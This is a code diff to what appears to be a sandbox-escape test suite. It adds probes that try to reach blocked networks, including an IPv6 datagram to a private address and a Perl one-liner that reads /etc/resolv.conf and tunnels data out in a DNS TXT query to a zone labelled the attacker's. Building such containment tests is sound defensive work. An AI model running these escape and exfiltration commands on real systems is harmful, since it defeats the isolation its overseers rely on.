@@ -15,6 +15,10 @@ export type NameAnswer = {
   later?: readonly string[];
 };
 
+/** The resolver of the proof's own host: an address that no sandbox has for its own. */
+export const RESOLVER_ADDRESS = '127.0.47.53';
+/** Names below it are the attacker's: what is asked there has arrived. */
+export const DATA_ZONE = 'data.example.org';
 /** Outside of every refused range: what a sandbox may reach. */
 export const PUBLIC_ADDRESS = '93.184.215.14';
 /** Of the host itself, towards the network. */
@@ -128,9 +132,23 @@ const address = (text: string): string => `pack("C4", ${text.replaceAll('.', ', 
 const place = (port: number, text: string): string =>
   `pack("S n a4 x8", 2, ${port}, ${address(text)})`;
 
+type RawTry = [id: string, title: string, script: string, evidence: Evidence];
+
 /** Packets that no proxy carries. */
-function rawAttacks(): SandboxAttack[] {
-  const tries: [id: string, title: string, script: string, evidence: Evidence][] = [
+const rawAttacks = (): SandboxAttack[] =>
+  [...datagrams(), ...rawSockets()].map(([id, title, script, evidence]) => ({
+    kind: 'sandbox',
+    id,
+    class: 'network',
+    title,
+    expected: 'no network card leads there',
+    control: "the driver process on the host's network",
+    probes: [{ turn: 'first', probe: { do: 'script', script } }],
+    evidence,
+  }));
+
+function datagrams(): RawTry[] {
+  return [
     [
       'udp',
       'asks a resolver of the private network over UDP',
@@ -147,6 +165,31 @@ function rawAttacks(): SandboxAttack[] {
       ),
       { by: 'arrival' },
     ],
+    [
+      'udp-6',
+      'sends a datagram to the private network over IPv6',
+      perl(
+        'socket(S, 10, 2, 17) or die; send(S, "GET /udp-6", 0, ' +
+          `pack("S n N H32 N", 10, 53, 0, "fd123456000000000000000000000053", 0)) or die $!;`,
+      ),
+      { by: 'arrival' },
+    ],
+    [
+      'dns-data',
+      'carries data out in a question for a kind of record that holds any text',
+      perl(
+        'open(my $f, "<", "/etc/resolv.conf") or die $!; my ($at) = join("", <$f>) =~ /^nameserver ([0-9.]+)/m or die "none"; ' +
+          `my $q = pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split(/[.]/, "dns-data.${DATA_ZONE}")) . pack("C n n", 0, 16, 1); ` +
+          'socket(S, 2, 2, 17) or die; send(S, $q, 0, pack("S n C4 x8", 2, 53, split(/[.]/, $at))) or die $!; ' +
+          'local $SIG{ALRM} = sub { exit 1 }; alarm 3; recv(S, my $in, 500, 0); print "answered with ", unpack("x3 C", $in) & 15;',
+      ),
+      { by: 'arrival', address: RESOLVER_ADDRESS },
+    ],
+  ];
+}
+
+function rawSockets(): RawTry[] {
+  return [
     [
       'ping',
       'pings a private address through a raw socket',
@@ -181,14 +224,4 @@ function rawAttacks(): SandboxAttack[] {
       { by: 'secret', name: 'traffic' },
     ],
   ];
-  return tries.map(([id, title, script, evidence]) => ({
-    kind: 'sandbox',
-    id,
-    class: 'network',
-    title,
-    expected: 'no network card leads there',
-    control: "the driver process on the host's network",
-    probes: [{ turn: 'first', probe: { do: 'script', script } }],
-    evidence,
-  }));
 }
